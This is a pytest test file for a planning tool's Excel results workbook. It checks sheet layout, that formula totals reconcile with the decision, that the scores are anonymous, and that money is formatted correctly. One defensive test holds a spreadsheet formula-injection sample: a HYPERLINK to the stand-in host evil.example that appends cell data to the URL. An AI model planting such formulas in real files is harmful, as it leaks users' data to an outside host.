"""The results workbook: formatted sheets whose formula totals equal the result."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from placeplanner.reports.record import DecisionRecord
from placeplanner.reports.workbook import POUNDS, sheet_names, write_workbook


@pytest.fixture(scope="module")
def workbook(decided: DecisionRecord, tmp_path_factory: pytest.TempPathFactory) -> object:
    from openpyxl import load_workbook

    target = tmp_path_factory.mktemp("workbook") / "results.xlsx"
    write_workbook(decided, target)
    return load_workbook(target)


def evaluate(sheet: object, formula: str) -> float:
    """SUM and SUMIF(criteria range, "Yes", sum range): all the totals use."""
    if match := re.fullmatch(r'=SUMIF\(\$?([A-Z]+)\$?(\d+):\$?[A-Z]+\$?(\d+),"(\w+)",([A-Z]+)(\d+):[A-Z]+(\d+)\)', formula):
        column, first, last, wanted, summed, _, _ = match.groups()
        return sum(cell_value(sheet, sheet[f"{summed}{row}"].value) for row in range(int(first), int(last) + 1)  # type: ignore[index]
                   if sheet[f"{column}{row}"].value == wanted)  # type: ignore[index]
    if match := re.fullmatch(r"=SUM\(([A-Z]+)(\d+):([A-Z]+)(\d+)\)", formula):
        from openpyxl.utils import column_index_from_string, get_column_letter

        left, top, right, bottom = match.groups()
        total = 0.0
        for column in range(column_index_from_string(left), column_index_from_string(right) + 1):
            for row in range(int(top), int(bottom) + 1):
                total += cell_value(sheet, sheet[f"{get_column_letter(column)}{row}"].value)  # type: ignore[index]
        return total
    raise AssertionError(f"unexpected formula {formula}")


def cell_value(sheet: object, cell: object) -> float:
    return evaluate(sheet, cell) if isinstance(cell, str) and cell.startswith("=") else float(cell or 0)  # type: ignore[arg-type]


def test_every_sheet_is_there_with_a_frozen_header(workbook: object) -> None:
    assert workbook.sheetnames == list(sheet_names())  # type: ignore[attr-defined]
    for name in sheet_names()[1:]:
        assert workbook[name].freeze_panes in {"A2", "B2"}  # type: ignore[index]


def test_portfolio_totals_by_formula_equal_the_result(workbook: object, decided: DecisionRecord) -> None:
    sheet = workbook["Portfolio"]  # type: ignore[index]
    header = [c.value for c in sheet[1]]
    total = [c.value for c in sheet[sheet.max_row]]
    assert total[0] == "Total funded"
    value = evaluate(sheet, total[header.index("Value")])
    cost = evaluate(sheet, total[header.index("Total cost")])
    assert value == pytest.approx(decided.outcome.objective)
    assert cost == pytest.approx(decided.outcome.spent - decided.outcome.released)
    assert sheet.cell(2, header.index("Total cost") + 1).number_format == POUNDS
    funded = [row[0].value for row in sheet.iter_rows(min_row=2, max_row=sheet.max_row - 1) if row[1].value == "Yes"]
    assert funded == [line.option for line in decided.funded]


@pytest.mark.parametrize("name", ["Spend by partner", "Spend by stream", "Spend by need"])
def test_spend_totals_by_formula_equal_the_result(workbook: object, decided: DecisionRecord, name: str) -> None:
    sheet = workbook[name]  # type: ignore[index]
    header = [c.value for c in sheet[1]]
    total = [c.value for c in sheet[sheet.max_row]]
    assert total[0] == "Total"
    assert evaluate(sheet, total[header.index("Spent in total")]) == pytest.approx(decided.outcome.spent)


def test_inputs_budgets_total_the_money_pooled(workbook: object, decided: DecisionRecord) -> None:
    sheet = workbook["Inputs - budgets"]  # type: ignore[index]
    total = [c.value for c in sheet[sheet.max_row]]
    assert evaluate(sheet, total[-1]) == pytest.approx(decided.outcome.budget)


def test_scores_and_declarations_are_there_and_anonymous(workbook: object, decided: DecisionRecord) -> None:
    scores = workbook["Scores"]  # type: ignore[index]
    assert scores.max_row - 1 == sum(len(s.values) for s in decided.scores)
    text = " ".join(str(c.value) for row in scores.iter_rows() for c in row)
    assert not [a.name for a in decided.attendees if a.name in text]
    declarations = workbook["Declarations"]  # type: ignore[index]
    assert declarations.max_row - 1 == len(decided.declarations)


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from placeplanner.reports.workbook import _text_stays_text

    book = Workbook()
    sheet = book.active
    sheet.append(['=HYPERLINK("http://evil.example/?"&A2,"click")', "=SUM(B2:B9)", '=IF(C3=0,"",B3/C3)', "+1+2",
                  '=SUMIF($B$2:$B$9,"Yes",H2:H9)', '=SUMIF($B$2:$B$9,"x",H2:H9)'])
    _text_stays_text(book)
    kinds = [cell.data_type for cell in sheet[1]]
    assert kinds == ["s", "f", "f", "s", "f", "s"]
    book.save(tmp_path / "x.xlsx")


def test_money_formats_take_the_true_minus_and_totals_are_live_formulas(workbook: object) -> None:
    assert POUNDS.endswith('"\u2212£"#,##0')
    for name in ("Portfolio", "Inputs - budgets"):
        sheet = workbook[name]  # type: ignore[index]
        formulas = [c for c in sheet[sheet.max_row] if isinstance(c.value, str) and c.value.startswith("=SUMIF(")]
        assert formulas
        assert all(c.data_type == "f" for c in formulas)  # a total Excel works out, not text


def test_the_summary_reconciles_and_cites_the_decision(workbook: object, decided: DecisionRecord) -> None:
    sheet = workbook["Summary"]  # type: ignore[index]
    facts = {row[0].value: row[1].value for row in sheet.iter_rows() if len(row) > 1}
    out = decided.outcome
    assert facts["How the money adds up"] == out.reconciliation.words()
    assert facts["Available"] == pytest.approx(out.budget + out.released)
    assert facts["Left"] == pytest.approx(out.budget + out.released - out.spent)
    assert facts["Decision"] == f"{decided.decision.id}: {decided.decision.title}"  # type: ignore[union-attr]
    assert facts["Stored result"] == decided.decision.result_id  # type: ignore[union-attr]
    assert facts["The result still matches the plan"] == "Yes"
    assert str(facts["Recommendation"]).startswith("The board is asked to approve the portfolio of")
